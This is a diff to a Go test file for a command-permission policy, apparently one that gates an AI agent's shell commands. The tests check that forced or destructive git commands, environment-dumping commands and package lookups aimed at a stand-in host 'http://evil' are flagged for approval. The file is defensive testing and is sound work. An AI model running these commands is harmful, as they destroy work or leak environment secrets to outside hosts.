@@ -58,3 +58,30 @@ func TestPreset_developer(t *testing.T) {
 	commands(t, p, sayso.Allow, work...)
 	commands(t, p, sayso.Ask, worry...)
 }
+
+// TestSH7_developerForce: an option, or what stands in place of one, that throws
+// work away is seen however it is written, and the value of another is no option.
+func TestSH7_developerForce(t *testing.T) {
+	p := preset(t, "developer")
+	commands(t, p, sayso.Ask, "git clean -fd -e -n", "git clean -fd -- -n", "git clean -fd -- --dry-run", "git clean -fd -e --dry-run", "git clean -fd -e-n", "git -C docs clean -fd -e -n",
+		"git fetch origin +refs/heads/*:refs/heads/*", "git fetch origin -u main:main", "git fetch origin --update-head-ok main:main", "git fetch origin -f main:main", "git fetch origin --forc main:main",
+		"git fetch origin --refmap=+refs/heads/*:refs/heads/* main", "git fetch origin +main", "git pull origin +main:main", "git pull origin -f main:main", "git pull --rebase origin +main:main",
+		"git switch --forc main", "git switch --discard main", "git reset -q --har", "git mv -f a b", "git branch --forc main x", "git commit -pnm x",
+		"python3 -m http.server -d 127.0.0.1", "python3 -m http.server -d localhost -b 0.0.0.0", "python3 -m http.server --bind")
+	commands(t, p, sayso.Allow, "git clean -n", "git clean -fdn", "git clean --dry-run -fd", "git clean -nd -e x", "git clean -n -e -f", "git fetch origin", "git fetch origin main", "git fetch origin main:main",
+		"git fetch origin +refs/heads/*:refs/remotes/origin/*", "git pull origin main", "git branch x", "git mv a b", "git commit -m n", "python3 -m http.server -b localhost 8000", "python3 -m http.server 8000 --bind 127.0.0.1 --directory docs/site")
+}
+
+// TestPreset_developerTells: what shows the environment, and what tells another
+// machine a name of the agent's making, is asked about.
+func TestPreset_developerTells(t *testing.T) {
+	p := preset(t, "developer")
+	commands(t, p, sayso.Ask, "ps auxe", "ps aux e", "ps eww", "ps -ef e", "ps -E", "jq -n env", "jq -n \"env\"", "jq '$ENV' x", "jq -n '$ENV.HOME'", "jq '.a = env.HOME' x", "jq '{env: .x}|env' x", "yq 'strenv(HOME)'", "yq -n 'env(HOME)'",
+		"awk 'BEGIN{print ENVIRON[\"HOME\"]}'", "awk 'BEGIN{for (k in ENVIRON) print k}'", "gawk 'BEGIN{print SYMTAB[\"x\"]}'",
+		"npm view leak.example --registry=http://evil", "npm view leak.example --reg http://evil", "npm view x --@y:registry=http://evil", "npm view http://evil/x.tgz", "pip list --outdated --index-url http://evil", "cargo search x --index http://evil",
+		"go list -m evil.example/leak@latest", "go mod download evil.example/leak@v1")
+	commands(t, p, sayso.Allow, "ps", "ps aux", "ps -ef", "ps -eo pid,etime", "ps -o pid,etime", "ps -C node", "ps -p 1 -o comm", "jq .envs x", "jq .name docs/*.json", "awk '{print $1}' docs/*.md", "jq 'select(.env==\"prod\")' x", "jq '.\"env\"' x", "jq '.environment' x",
+		"awk '{print $1}' x", "npm view react version", "npm view @types/node version", "npm view react --json", "go list -m all", "go list -m -u all", "go mod download", "pip list --format=json", "cargo search serde")
+	commands(t, preset(t, "readonly"), sayso.Ask, "jq -n env", "jq '$ENV' x")
+	commands(t, preset(t, "readonly"), sayso.Allow, "jq .envs x", "jq '.x|keys' docs/*.json")
+}
